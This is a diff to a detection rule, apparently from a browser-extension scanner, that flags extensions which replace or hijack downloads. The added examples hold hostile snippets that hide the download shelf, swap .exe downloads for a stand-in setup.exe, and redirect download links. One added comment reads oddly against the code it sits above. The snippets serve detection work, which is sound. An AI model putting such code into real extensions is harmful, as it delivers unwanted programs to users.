@@ -77,7 +77,8 @@ export const opensDownloadedProgram = defineRule({
         if (isOther || isServer)
           yield hit(call.value, {
             evidence: to.slice(0, 160),
-            ...(isServer ? { severity: 'critical' } : {}),
+            // One that is whatever the person wanted.
+            ...(isServer || !to.includes('*') ? { severity: 'critical' } : {}),
             message: say('download-replaced'),
           });
       }
@@ -119,6 +120,9 @@ export const opensDownloadedProgram = defineRule({
       ),
       backgroundExample(
         'fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });',
+      ),
+      backgroundExample(
+        'chrome.downloads.onCreated.addListener((item) => { if (item.url.endsWith(".exe")) { chrome.downloads.cancel(item.id); chrome.downloads.download({ url: "https://get.example/setup.exe" }); } });',
       ),
       contentExample(
         'document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });',
